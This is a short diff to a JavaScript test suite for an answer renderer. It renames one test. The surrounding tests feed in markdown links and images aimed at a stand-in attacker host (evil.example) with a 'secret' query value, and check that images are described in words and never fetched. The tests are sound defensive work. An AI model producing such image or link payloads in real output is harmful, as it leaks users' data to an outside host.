@@ -118,7 +118,7 @@ describe('links and numbers in an answer', () => {
     expect(html).toContain('here (https://evil.example/?d=secret)');
   });
 
-  test('a picture is told in words and never asked for', () => {
+  test('a picture is reported in words and never asked for', () => {
     const html = render('![a chart](https://evil.example/p.png?d=secret) ![x][r]\n\n[r]: https://evil.example/q.png');
     expect(html).toContain('(picture: a chart)');
     expect(html).not.toContain('evil.example');
